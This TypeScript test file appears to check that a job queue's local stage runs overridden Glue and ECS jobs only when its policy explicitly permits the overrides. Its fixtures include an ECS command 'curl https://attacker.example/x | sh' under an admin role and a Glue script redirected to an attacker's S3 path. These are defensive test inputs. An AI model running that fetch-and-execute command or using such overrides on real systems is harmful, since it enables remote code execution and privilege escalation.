import type { LocalStack } from '../../local/stack';
import { expectEveryJobRanOnce } from '../support/invariants';
import { startPoolStack } from '../support/poolStack';
import { enqueue } from '../support/testStack';

/**
 * (The refusals, with the local stage's policy: overrides.test.ts. One stack per file: the functions' container is one
 * per process.) Whoever can write to the queue writes the spec, so what a job may change of what its kind runs is the stage's
 * decision, deny by default. On the whole local stack: a Glue job whose arguments replace its script, and an ECS task
 * run under an admin role with a shell command, are dead-lettered with the setting that would allow them and never
 * start; with a stage that allows exactly those overrides, they run.
 */
const POOL = 'ovr';
const EVIL_GLUE = {
  kind: 'glue',
  pool: POOL,
  id: 'evil-glue',
  jobName: `${POOL}--etl`,
  arguments: { '--day': '2026-11-22', '--scriptLocation': 's3://attacker/evil.py' },
};
const EVIL_ECS = {
  kind: 'ecs',
  pool: POOL,
  id: 'evil-ecs',
  cluster: 'sluice-jobs',
  taskDefinition: `${POOL}--report`,
  launchType: 'FARGATE',
  overrides: {
    taskRoleArn: 'arn:aws:iam::000000000000:role/sluice-admin',
    containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl https://attacker.example/x | sh'] }],
  },
};
const PLAIN_GLUE = { kind: 'glue', pool: POOL, id: 'plain-glue', jobName: `${POOL}--etl`, arguments: { '--day': '2026-11-22' } };

describe('a stage that allows exactly those overrides', () => {
  let stack: LocalStack;
  beforeAll(async () => {
    const overrides = { glue: { arguments: ['--day', '--scriptLocation'] }, ecs: { command: true, taskRole: true } };
    stack = await startPoolStack({ [POOL]: 2 }, { defaultRunMs: 100, env: { OVERRIDES: JSON.stringify(overrides) } });
  }, 60_000);
  afterAll(() => stack?.stop());

  test('runs them', async () => {
    await enqueue(stack, [EVIL_GLUE, EVIL_ECS]);
    await expectEveryJobRanOnce(stack, { pool: POOL, limit: 2, ids: ['evil-glue', 'evil-ecs'], timeoutMs: 90_000 });
  }, 180_000);
});
